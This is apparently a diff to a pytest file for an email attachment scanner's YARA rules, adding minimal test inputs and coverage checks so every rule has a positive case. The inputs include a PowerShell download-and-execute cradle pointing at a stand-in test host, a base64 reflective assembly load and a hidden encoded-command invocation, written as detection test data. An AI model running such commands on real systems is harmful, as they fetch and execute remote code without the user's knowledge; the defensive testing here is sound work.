@@ -74,6 +74,34 @@ HOSTILE = [
 # fmt: on
 
 
+# fmt: off
+#: Rules no sample mail exercises, on minimal inputs: (case id, bytes, rules hit).
+MINIMAL = [
+    ("elf", b"\x7fELF\x02\x01\x01" + bytes(57), {"executables.Executable_ELF"}),
+    ("macho-64", b"\xcf\xfa\xed\xfe" + bytes(60), {"executables.Executable_MachO"}),
+    ("macho-universal", b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(56),
+     {"executables.Executable_MachO"}),
+    ("java-class-is-not-macho", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(56),
+     set()),
+    ("powershell-cradle",
+     b"IEX (New-Object Net.WebClient).DownloadString('http://a.example.test/x')",
+     {"script_droppers.Script_PowerShell_Download_Cradle"}),
+    ("powershell-base64-assembly",
+     b"$b = [Convert]::FromBase64String($p); [Reflection.Assembly]::Load($b)",
+     {"script_droppers.Script_PowerShell_Download_Cradle"}),
+    ("powershell-encoded-utf16",
+     "pwsh.exe -NoP -w hidden -ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABO"
+     .encode("utf-16-le"),
+     {"script_droppers.Script_PowerShell_EncodedCommand"}),
+    ("powershell-mentioned", b"Run powershell -File deploy.ps1 -Environment prod",
+     set()),
+    ("old-browser-xhr",
+     b'x = new ActiveXObject("Microsoft.XMLHTTP"); m = re.exec(s); w.run(1)',
+     set()),
+]
+# fmt: on
+
+
 def _load_build() -> ModuleType:
     """samples/build.py, loaded by path: samples/ is deliberately not a package."""
     spec = importlib.util.spec_from_file_location("samples_build", SAMPLES / "build.py")
@@ -90,6 +118,15 @@ build = _load_build()
 def _rule_files() -> list[Path]:
     folder = SIGNATURES / "yara"
     return sorted([*folder.glob("*.yar"), *folder.glob("*.yara")])
+
+
+def _rule_names() -> list[tuple[str, str]]:
+    """(namespace, rule) of every rule, read per file (yara.Rule has no namespace)."""
+    return [
+        (path.stem, rule.identifier)
+        for path in _rule_files()
+        for rule in yara.compile(str(path), externals=EXTERNALS, error_on_warning=True)
+    ]
 
 
 @pytest.fixture(scope="module")
@@ -158,14 +195,11 @@ def _hits(rules: Any, path: str, declared: str, data: bytes) -> set[str]:
 
 def test_yara_directory_compiles_with_the_externals(rules: Any) -> None:
     """Every .yar file compiles warning-free alone and, one namespace each, together."""
-    files = _rule_files()
-    counts = [
-        len(list(yara.compile(str(p), externals=EXTERNALS, error_on_warning=True)))
-        for p in files
-    ]
+    names = _rule_names()
 
-    assert len(files) >= 4 and all(counts)
-    assert sum(counts) == len(list(rules))
+    assert {namespace for namespace, _ in names} == {p.stem for p in _rule_files()}
+    assert len(_rule_files()) >= 4
+    assert len(names) == len(list(rules))
 
 
 def test_yara_externals_are_the_ones_the_detector_supplies() -> None:
@@ -202,6 +236,22 @@ def test_every_hostile_sample_has_an_expectation() -> None:
     """No quarantine or reject sample is left out of the table above."""
     expected = {sample for sample, _, _, _ in HOSTILE}
     assert set(_committed("quarantine", "reject")) == expected
+
+
+@pytest.mark.parametrize(
+    ("data", "expected"), [c[1:] for c in MINIMAL], ids=[c[0] for c in MINIMAL]
+)
+def test_rules_without_a_sample_on_minimal_inputs(
+    rules: Any, data: bytes, expected: set[str]
+) -> None:
+    """Rules that no sample exercises hit their minimal case, and near misses do not."""
+    assert _hits(rules, "attachment:sample.bin", "", data) == expected
+
+
+def test_every_yara_rule_has_a_positive_case() -> None:
+    """Each rule is hit by at least one sample part or minimal input above."""
+    covered = set().union(*(c[2] for c in HOSTILE), *(c[2] for c in MINIMAL))
+    assert {f"{ns}.{rule}" for ns, rule in _rule_names()} <= covered
 
 
 @pytest.mark.parametrize("sample", _committed("accept", "tag"))
